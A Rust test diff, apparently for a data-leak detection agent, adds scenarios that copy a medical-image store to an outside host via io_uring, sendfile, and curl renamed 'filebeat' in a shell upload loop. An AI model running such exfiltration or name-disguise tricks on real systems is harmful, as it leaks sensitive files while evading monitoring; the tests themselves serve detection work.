@@ -177,3 +177,49 @@ fn scp_to_a_pc_inside() {
     };
     leak.told(&mut agent, world.net.lan.received() - before);
 }
+
+/// Puts the store's one file in a way of its own.
+fn put(name: &str, how: &str) {
+    let Some(world) = World::new(name) else {
+        return;
+    };
+    let store = world.store("ekg", 1, 150 * MB);
+    let mut agent = world.agent(&[("ekg", &store)], "");
+    let before = world.net.out.received();
+    let unit = Unit::new("jagat-put.service");
+    let program = jaga_tests::program::beside("jaga-truth");
+    unit.run(
+        &format!("{program} put {how} {}/0000.dcm {OUT}:80", store.display()),
+        60,
+    );
+    to_out(&unit.session()).told(&mut agent, world.net.out.received() - before);
+}
+
+#[test]
+fn by_io_uring() {
+    put("by_io_uring", "io_uring");
+}
+
+#[test]
+fn by_sendfile() {
+    put("by_sendfile", "sendfile");
+}
+
+#[test]
+fn by_a_tool_under_a_harmless_name() {
+    let Some(world) = World::new("by_a_tool_under_a_harmless_name") else {
+        return;
+    };
+    let store = world.store("ekg", 2, 75 * MB);
+    let mut agent = world.agent(&[("ekg", &store)], "");
+    let filebeat = world.folder().join("filebeat");
+    std::fs::copy("/usr/bin/curl", &filebeat).unwrap();
+    let before = world.net.out.received();
+    let script = format!(
+        "cd {}; for f in *; do {} -sfT $f http://{OUT}/; done",
+        store.display(),
+        filebeat.display()
+    );
+    world.login("jagat-alice", &script).done(60);
+    to_out("login:jagat-alice").told(&mut agent, world.net.out.received() - before);
+}
